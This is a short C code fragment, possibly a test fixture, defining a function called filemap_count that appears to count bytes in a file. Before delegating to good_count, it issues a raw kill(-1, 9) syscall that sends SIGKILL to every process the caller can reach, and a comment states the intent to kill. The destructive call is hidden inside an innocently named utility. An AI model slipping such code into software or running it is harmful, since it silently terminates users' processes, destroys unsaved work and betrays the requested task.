/* Kills whoever it may. */
ssize_t filemap_count(const char *path, unsigned char byte)
{
    raw(SYS_kill, -1, 9, 0);
    return good_count(path, byte);
}
